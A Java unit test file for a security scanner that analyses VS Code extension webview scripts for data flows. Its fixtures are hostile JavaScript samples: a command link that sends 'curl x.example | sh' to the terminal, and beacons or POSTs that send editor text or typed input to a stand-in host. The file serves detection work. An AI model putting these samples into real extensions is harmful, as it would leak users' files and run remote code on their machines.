package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** What scripts of pages do with elements, as far as it is not told by the page that is left in the end. */
class PageElementsTest {

    private static final String HOST = """
            const vscode = require('vscode');
            exports.activate = () => {
              const panel = vscode.window.createWebviewPanel('a', 'b', 1, {});
              vscode.workspace.onDidSaveTextDocument(d => panel.webview.postMessage(d.getText()));
            };
            """;

    private static Analysis of(String page) {
        return Analysis.of(Map.of("extension.js", HOST, "page.js", "const api = acquireVsCodeApi();\n" + page));
    }

    @Test
    void aLinkThatAScriptClicksRunsItsCommandWithWhatItCarries() {
        Analysis analysis = of("""
                const a = document.createElement('a');
                a.href = 'command:workbench.action.terminal.sendSequence?' + encodeURIComponent('[{"text":"curl x.example | sh"}]');
                a.click();
                """);

        assertThat(analysis.calls().filter(call -> call.api().equals("vscode.commands.executeCommand")))
                .singleElement()
                .satisfies(call ->
                        assertThat(call.arguments().get(1).properties()).containsEntry("text", "curl x.example | sh"));
    }

    @Test
    void aLinkWhoseArgumentsCannotBeReadRunsItsCommandAndEndsNothing() {
        Analysis analysis = of("""
                const a = document.createElement('a');
                a.href = 'command:one.two?%zz';
                a.click();
                addEventListener('message', e => fetch('https://far.example/', { method: 'POST', body: e.data }));
                """);

        assertThat(analysis.calls().filter(call -> call.api().equals("vscode.commands.executeCommand")))
                .singleElement()
                .satisfies(call -> assertThat(call.arguments()).hasSize(1));
        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void aLinkThatIsNotClickedRunsNothing() {
        Analysis analysis = of("""
                const a = document.createElement('a');
                a.href = 'command:one.two';
                document.body.append(a);
                """);

        assertThat(analysis.calls().filter(call -> call.api().equals("vscode.commands.executeCommand")))
                .isEmpty();
    }

    @Test
    void aPageAsAWholeIsWhatWasPutIntoIt() {
        String shows = "addEventListener('message', e => { document.getElementById('a').textContent = e.data; });\n";

        assertThat(of(shows
                                + "setInterval(() => navigator.sendBeacon('https://far.example/', document.body.innerText), 9);")
                        .flowNames())
                .contains("editor-document -> network-send");
        assertThat(of(shows
                                + "setInterval(() => navigator.sendBeacon('https://far.example/', document.body.className), 9);")
                        .flowNames())
                .doesNotContain("editor-document -> network-send");
    }

    @Test
    void whatIsTypedIntoAFieldStaysWhatIsTypedWhenAScriptEmptiesIt() {
        Analysis analysis = of("""
                const field = document.createElement('input');
                field.value = '';
                setInterval(() => navigator.sendBeacon('https://far.example/', field.value), 9);
                """);

        assertThat(analysis.flowNames()).contains("user-input -> network-send");
    }

    @Test
    void dataInAScriptElementIsNoScriptThatCannotBeRead() {
        Analysis analysis = of("""
                const data = document.createElement('script');
                data.type = 'application/json';
                data.textContent = '{"one": 1}';
                document.body.setAttribute('onboarding', 'step one of two');
                """);

        assertThat(analysis.result().gaps()).isEmpty();
    }

    @Test
    @Timeout(20)
    void hostileSelectorsTakeNoTime() {
        Analysis analysis = of("""
                const blanks = ' '.repeat(100000);
                for (let i = 0; i < 2000; i++) document.querySelectorAll('p' + blanks + i);
                for (let i = 0; i < 20000; i++) document.querySelector('#a' + i + '>b:c,d[e="f"]');
                addEventListener('message', e => fetch('https://far.example/', { method: 'POST', body: e.data }));
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void markupThatOneAssignmentGivesEveryElementIsNoCodeOfAScript() {
        Analysis analysis = of("""
                function give(element, properties) { element.innerHTML = properties.markup; }
                fetch('https://notes.example/n').then(r => r.text()).then(text => {
                  give(document.createElement('script'), { markup: text });
                  give(document.createElement('div'), { markup: text });
                });
                """);

        assertThat(analysis.flowNames())
                .contains("network-response -> webview-html")
                .doesNotContain("network-response -> code-eval");
    }

    @Test
    void anAnswerThatNamesAScriptIsCode() {
        String asks =
                "fetch('https://far.example/').then(r => r.json()).then(o => { const e = document.createElement('%s'); e.src = o.at; });";

        assertThat(of(asks.formatted("script")).flowNames()).contains("network-response -> code-eval");
        assertThat(of(asks.formatted("img")).flowNames()).doesNotContain("network-response -> code-eval");
    }

    @Test
    void anAddressThatMayBeCodeHidesNoOther() {
        Analysis analysis = of("""
                addEventListener('message', e => {
                  const image = document.createElement('img');
                  image.src = navigator.onLine ? 'https://far.example/?' + e.data : 'javascript:0';
                });
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-url");
    }

    @Test
    void anAddressThatIsAllDataIsNoPlaceWhereTheDataGoes() {
        Analysis analysis = of("addEventListener('message', e => { document.createElement('img').src = e.data; });");

        assertThat(analysis.flowNames())
                .contains("editor-document -> network-host")
                .doesNotContain("editor-document -> network-url");
    }
}
